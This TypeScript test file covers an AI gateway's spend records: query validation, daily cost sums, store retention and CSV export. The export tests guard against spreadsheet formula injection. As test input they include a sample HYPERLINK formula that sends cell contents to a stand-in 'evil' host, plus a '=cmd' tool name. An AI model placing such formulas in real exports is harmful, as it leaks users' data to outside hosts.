// The spend records' pure parts: the query checks, the sums of a batch, the
// memory store's ring and retention, and the export's formats.
import { spendQuery, usageQuery } from '../../../src/admin/spend-query';
import { MemorySpendStore } from '../../../src/spend/memory-store';
import { scopesOf, sumsOf, type UsageRecord } from '../../../src/spend/record';
import { daysBetween, expiresAt } from '../../../src/spend/store';
import { csvField, csvLine, dollarText } from '../../../src/spend/export';
import { GatewayError } from '../../../src/contract/errors';

const record = (over: Partial<UsageRecord> = {}): UsageRecord => ({
  time: '2026-03-01T10:00:00.000Z', request_id: 'r1', key: 'alice', team: null, org: 'acme', user: null, model: 'm-1', protocol: 'chat', endpoint: 'chat',
  status: 200, reason: null, prompt_tokens: 10, cached_tokens: 4, completion_tokens: 5, reasoning_tokens: 2, estimated: false, cost: 0.000012345, ...over,
});

const NOW = Date.parse('2026-03-05T12:00:00Z');
const paramOf = (fn: () => unknown): string | undefined => {
  try { fn(); } catch (err) { return (err as GatewayError).param ?? undefined; }
  return undefined;
};

describe('spend queries', () => {
  it('default to today, the whole gateway', () => {
    expect(spendQuery({}, NOW)).toEqual({ from: '2026-03-05', to: '2026-03-05', key: undefined, org: undefined });
    expect(spendQuery({ key: 'alice', from: '2026-02-01' }, NOW)).toMatchObject({ key: 'alice', from: '2026-02-01', to: '2026-03-05' });
  });

  it.each([
    ['from', { from: '2026-02-30' }], ['to', { to: '5 March' }], ['from', { from: '2026-03-06', to: '2026-03-05' }],
    ['from', { from: '2024-01-01', to: '2026-01-01' }], ['key', { key: '' }], ['org', { org: 'x'.repeat(201) }],
  ])('refuse a bad query naming %s', (param, query) => {
    expect(paramOf(() => spendQuery(query, NOW))).toBe(param);
  });

  it('read since and until as ISO times, dates or epoch milliseconds', () => {
    expect(usageQuery({ since: '2026-03-01' }, NOW)).toEqual({ sinceMs: Date.parse('2026-03-01T00:00:00Z'), untilMs: NOW + 1, format: 'jsonl' });
    expect(usageQuery({ since: '2026-03-01T12:00:00Z', until: String(NOW), format: 'csv' }, NOW)).toEqual({ sinceMs: Date.parse('2026-03-01T12:00:00Z'), untilMs: NOW, format: 'csv' });
    expect(paramOf(() => usageQuery({}, NOW))).toBe('since');
    expect(paramOf(() => usageQuery({ since: 'yesterday' }, NOW))).toBe('since');
    expect(paramOf(() => usageQuery({ since: '2026-03-02', until: '2026-03-01' }, NOW))).toBe('until');
    expect(paramOf(() => usageQuery({ since: '2026-03-01', format: 'xml' }, NOW))).toBe('format');
  });

  it('cover each day of a range once, and keep a day until retentionDays after it ends', () => {
    expect(daysBetween('2026-02-27', '2026-03-02')).toEqual(['2026-02-27', '2026-02-28', '2026-03-01', '2026-03-02']);
    expect(expiresAt('2026-03-01', 1) * 1000).toBe(Date.parse('2026-03-03T00:00:00Z'));
  });
});

describe('spend sums', () => {
  it('go under the gateway, the key and the org; a request without a key only under the gateway', () => {
    expect(scopesOf(record())).toEqual(['all', 'key:alice', 'org:acme']);
    expect(scopesOf(record({ key: null, org: null }))).toEqual(['all']);
  });

  it('add a batch per day and scope in whole nano-dollars', () => {
    const sums = sumsOf([record(), record({ cost: 0.1 }), record({ time: '2026-03-02T00:00:00.000Z', org: null, cost: null })]);
    expect(sums.get('2026-03-01 key:alice')).toEqual({ requests: 2, prompt_tokens: 20, cached_tokens: 8, completion_tokens: 10, reasoning_tokens: 4, tool_calls: 0, cost_nanodollars: 100_012_345 });
    expect(sums.get('2026-03-02 key:alice')?.cost_nanodollars).toBe(0);
    expect(sums.has('2026-03-02 org:acme')).toBe(false);
  });
});

describe('the memory store', () => {
  it('keeps the last streamMaxLen records, oldest first, and a smaller bound keeps the newest', async () => {
    const store = new MemorySpendStore({ retentionDays: 30, streamMaxLen: 3 });
    store.addNow([1, 2, 3, 4, 5].map((i) => record({ request_id: `r${i}` })), NOW);
    const ids = async () => { const out: string[] = []; for await (const r of store.records(0, NOW)) out.push(r.request_id); return out; };
    expect(await ids()).toEqual(['r3', 'r4', 'r5']);
    store.configure({ retentionDays: 30, streamMaxLen: 2 });
    store.addNow([record({ request_id: 'r6' })], NOW);
    expect(await ids()).toEqual(['r5', 'r6']);
    store.configure({ retentionDays: 30, streamMaxLen: 4 });
    store.addNow([record({ request_id: 'r7' })], NOW);
    expect(await ids()).toEqual(['r5', 'r6', 'r7']);
    expect((await store.days('all', ['2026-03-01']))[0].requests).toBe(7);
  });

  it('forgets a day past its retention when a new day comes', async () => {
    const store = new MemorySpendStore({ retentionDays: 2, streamMaxLen: 10 });
    store.addNow([record()], NOW);
    store.addNow([record({ time: '2026-03-05T01:00:00.000Z' })], NOW);
    expect(await store.days('key:alice', ['2026-03-01', '2026-03-05'])).toEqual([expect.objectContaining({ date: '2026-03-05', requests: 1 })]);
  });
});

describe('the export', () => {
  it('writes cost as a plain decimal, never in exponent form', () => {
    expect([dollarText(1e-7), dollarText(0.000012345), dollarText(12), dollarText(0), dollarText(null)]).toEqual(['0.0000001', '0.000012345', '12', '0', '']);
  });

  it('quotes a CSV field that needs it and leaves null fields empty', () => {
    expect(csvLine(record({ model: 'a,"b"', reason: null, key: null }))).toBe('2026-03-01T10:00:00.000Z,r1,,,acme,,"a,""b""",chat,chat,200,,10,4,5,2,false,0.000012345,,,,,,,,\n');
  });

  it('writes a text field a spreadsheet would run as a formula as quoted text, in every text column', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`);
      expect(csvLine(record({ model: `${start}m`, request_id: `${start}r`, key: `${start}k`, team: `${start}t`, org: `${start}o`, user: `${start}u` }))).toBe(
        `2026-03-01T10:00:00.000Z,"'${start}r","'${start}k","'${start}t","'${start}o","'${start}u","'${start}m",chat,chat,200,,10,4,5,2,false,0.000012345,,,,,,,,\n`);
    }
    expect(csvField('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    expect([csvField('a-b'), csvField(-1), csvField(false), csvField(null)]).toEqual(['a-b', '-1', 'false', '']);
  });

  it('writes an MCP tool call\'s own fields at the end, its tool quoted as text when it could start a formula', () => {
    const call = record({ model: null, protocol: 'mcp', endpoint: 'tools/call', prompt_tokens: 0, cached_tokens: 0, completion_tokens: 0, reasoning_tokens: 0, cost: 0,
      server: 'github', tool: '=cmd', outcome: 'refused', reason: 'refused', duration_ms: 1.5, bytes_in: 120, bytes_out: 64 });
    expect(csvLine(call)).toBe('2026-03-01T10:00:00.000Z,r1,alice,,acme,,,mcp,tools/call,200,refused,0,0,0,0,false,0,github,"\'=cmd",refused,1.5,120,64,,\n');
  });

  it('writes an audio request\'s unit in the last columns: seconds for an upload, characters for speech', () => {
    expect(csvLine(record({ endpoint: 'transcriptions', audio_seconds: 12.5 })).endsWith(',,,,,,,12.5,\n')).toBe(true);
    expect(csvLine(record({ endpoint: 'speech', characters: 20 })).endsWith(',,,,,,,,20\n')).toBe(true);
  });
});

describe('tool call sums', () => {
  it('count an MCP record under tool_calls, never under requests, in every scope', () => {
    const sums = sumsOf([record(), record({ protocol: 'mcp', endpoint: 'tools/call', prompt_tokens: 0, cached_tokens: 0, completion_tokens: 0, reasoning_tokens: 0, cost: 0 })]);
    for (const scope of ['all', 'key:alice', 'org:acme']) expect(sums.get(`2026-03-01 ${scope}`)).toMatchObject({ requests: 1, tool_calls: 1, prompt_tokens: 10 });
  });
});
